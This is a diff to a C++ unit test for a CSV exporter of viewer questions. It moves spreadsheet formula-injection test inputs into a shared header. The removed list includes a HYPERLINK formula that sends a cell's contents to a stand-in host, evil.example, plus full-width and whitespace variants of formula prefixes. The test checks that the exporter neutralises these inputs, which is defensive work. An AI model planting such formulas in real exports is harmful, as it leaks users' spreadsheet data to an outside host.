@@ -8,6 +8,7 @@
 #include <string>
 #include <vector>
 
+#include "tests/support/spreadsheet_formulas.h"
 #include "tests/unit/studio/export/readers.h"
 
 namespace yst::exporter {
@@ -15,24 +16,6 @@ namespace {
 
 using questions::Question;
 using questions::Status;
-
-// The inputs of the issue: formulas in every form Excel runs.
-const std::vector<std::string> kFormulas = {
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
-    "+1+1",
-    "@SUM(1)",
-    "\xEF\xBC\x8D"
-    "1",  // －1
-    "\t=1",
-    "\r=1",
-    "-1",
-    "\xEF\xBC\x9D"
-    "1",  // ＝1
-    "\xEF\xBC\x8B"
-    "1",  // ＋1
-    "\xEF\xBC\xA0"
-    "SUM(1)",  // ＠SUM(1)
-};
 
 Question question(std::int64_t id, const std::string& nickname, const std::string& text,
                   questions::Category category) {
@@ -48,7 +31,7 @@ Question question(std::int64_t id, const std::string& nickname, const std::strin
 
 TEST(QuestionsCsv, ViewersTextIsNeverAFormulaAndCategoriesAreInTheLanguage) {
   std::vector<Question> list = {
-      question(1, "@SUM(1)", kFormulas[0], questions::Category::kQuestion),
+      question(1, "@SUM(1)", test::kSpreadsheetFormulas[0], questions::Category::kQuestion),
       question(2,
                "\xEF\xBC\x8D"
                "1",
@@ -75,8 +58,8 @@ TEST(QuestionsCsv, ViewersTextIsNeverAFormulaAndCategoriesAreInTheLanguage) {
     EXPECT_EQ(rows[0][4], zh ? "类别" : "Category");
     // Nicknames (column 3), original (6) and final text (7).
     EXPECT_EQ(rows[1][3], "'@SUM(1)");
-    EXPECT_EQ(rows[1][6], "'" + kFormulas[0]);
-    EXPECT_EQ(rows[1][7], "'" + kFormulas[0]);
+    EXPECT_EQ(rows[1][6], "'" + test::kSpreadsheetFormulas[0]);
+    EXPECT_EQ(rows[1][7], "'" + test::kSpreadsheetFormulas[0]);
     EXPECT_EQ(rows[2][3],
               "'\xEF\xBC\x8D"
               "1");
